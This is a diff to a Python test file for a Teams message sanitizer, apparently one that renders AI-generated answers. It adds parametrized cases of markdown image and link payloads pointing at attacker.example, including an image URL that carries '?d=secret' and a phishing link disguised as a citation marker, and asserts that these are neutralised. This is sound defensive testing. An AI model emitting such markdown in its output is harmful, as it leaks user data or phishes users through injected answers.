@@ -99,3 +99,27 @@ async def test_an_injected_answer_reaches_teams_without_images_or_disguised_link
 def test_personal_chat_text_is_defanged_outside_code_only():
     text = teams_message_text(f"![s]({PIXEL})\n\n```\n![s]({PIXEL})\n```\n")
     assert text.count("pixel.png") == 1 and text.index("pixel.png") > text.index("```")
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "![[x]](https://attacker.example/p.png?d=secret)",  # brackets in the alt text
+        "![x](https://attacker.example/p.png (title))",  # a title in parentheses
+        "![x]( https://attacker.example/p.png 'title')",  # a title in single quotes
+        "![x](https://attacker.example/p(1).png)",  # parentheses in the URL
+        "[[1]](https://attacker.example/phish)",  # a link dressed as a citation marker
+        "[a](https://cdn.contoso.example/a)![[x]](https://attacker.example/p.png)",  # after an allowed link
+    ],
+)
+def test_every_commonmark_image_or_link_form_to_another_host_is_inert(markdown):
+    teams_text.set_content_hosts(["*.contoso.example"])
+    text = teams_message_text(markdown)
+    assert re.search(r"\]\(\s*<?https://attacker", text) is None, text
+    assert "attacker.example" in text  # shown, not dropped silently
+
+
+def test_an_allowed_host_keeps_its_images_in_every_form():
+    teams_text.set_content_hosts(["*.contoso.example"])
+    kept = "![[c]](https://cdn.contoso.example/c.png (t)) [[1]](https://www.contoso.example/d)"
+    assert no_exfiltration(kept) == kept
